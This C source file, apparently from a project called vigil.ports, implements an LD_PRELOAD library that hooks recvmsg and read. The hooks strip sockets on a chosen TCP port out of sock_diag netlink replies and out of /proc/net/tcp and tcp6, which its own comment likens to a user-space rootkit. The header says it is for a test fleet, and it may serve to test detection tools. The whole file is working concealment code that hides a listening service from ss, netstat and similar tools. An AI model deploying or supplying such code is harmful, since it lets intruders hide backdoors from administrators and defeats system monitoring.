/* Copyright (c) 2026 vigil.ports maintainers
 * GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
 * SPDX-License-Identifier: GPL-3.0-or-later
 *
 * Hides the sockets on TCP port HIDDEN from every program that it is loaded into (LD_PRELOAD, ld.so(8)), as rootkits
 * of user space do: out of the answers of sock_diag(7), and out of /proc/net/tcp and tcp6. For the test fleet.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dlfcn.h>
#include <linux/inet_diag.h>
#include <linux/netlink.h>
#include <linux/sock_diag.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int asks_for_sockets(int fd)
{
    int domain = 0, protocol = 0;
    socklen_t size = sizeof(int);
    if (getsockopt(fd, SOL_SOCKET, SO_DOMAIN, &domain, &size) || domain != AF_NETLINK)
        return 0;
    return !getsockopt(fd, SOL_SOCKET, SO_PROTOCOL, &protocol, &size) && protocol == NETLINK_SOCK_DIAG;
}

static int is_hidden(const struct nlmsghdr *one)
{
    const struct inet_diag_msg *socket = NLMSG_DATA(one);
    return one->nlmsg_type == SOCK_DIAG_BY_FAMILY && one->nlmsg_len >= NLMSG_LENGTH(sizeof *socket) &&
           ntohs(socket->id.idiag_sport) == HIDDEN;
}

ssize_t recvmsg(int fd, struct msghdr *message, int flags)
{
    ssize_t (*real)(int, struct msghdr *, int) = dlsym(RTLD_NEXT, "recvmsg");
    for (;;) {
        ssize_t got = real(fd, message, flags);
        if (got <= 0 || message->msg_iovlen != 1 || (flags & MSG_PEEK) || !asks_for_sockets(fd))
            return got;
        char *start = message->msg_iov[0].iov_base;
        size_t left = got < (ssize_t)message->msg_iov[0].iov_len ? (size_t)got : message->msg_iov[0].iov_len;
        size_t kept = 0;
        for (size_t at = 0; at + sizeof(struct nlmsghdr) <= left;) {
            struct nlmsghdr *one = (struct nlmsghdr *)(start + at);
            size_t size = NLMSG_ALIGN(one->nlmsg_len);
            if (size < sizeof *one || at + one->nlmsg_len > left)
                break;
            if (at + size > left)
                size = left - at;
            at += size;
            if (!is_hidden(one)) {
                memmove(start + kept, one, size);
                kept += size;
            }
        }
        if (kept)
            return (ssize_t)kept;
    }
}

static int is_list(int fd)
{
    char link[32], path[64];
    snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
    ssize_t size = readlink(link, path, sizeof path - 1);
    if (size < 8 || strncmp(path, "/proc/", 6))
        return 0;
    path[size] = 0;
    return !strcmp(path + size - 8, "/net/tcp") || (size > 8 && !strcmp(path + size - 9, "/net/tcp6"));
}

/* The kernel gives whole lines: "   0: 00000000:7A69 00000000:0000 0A ..." */
ssize_t read(int fd, void *buffer, size_t size)
{
    ssize_t (*real)(int, void *, size_t) = dlsym(RTLD_NEXT, "read");
    ssize_t got = real(fd, buffer, size);
    if (got <= 0 || !is_list(fd))
        return got;
    char mark[8], *text = buffer, *kept = text, *end = text + got;
    snprintf(mark, sizeof mark, ":%04X ", HIDDEN);
    for (char *line = text; line < end;) {
        char *next = memchr(line, '\n', (size_t)(end - line));
        next = next ? next + 1 : end;
        char *found = memmem(line, (size_t)(next - line), mark, 6);
        char *first = memchr(line, ':', (size_t)(next - line));
        char *local = first ? memchr(first + 1, ':', (size_t)(next - first - 1)) : NULL;
        if (!found || found != local) {
            memmove(kept, line, (size_t)(next - line));
            kept += next - line;
        }
        line = next;
    }
    return kept > text ? kept - text : real(fd, buffer, size);
}
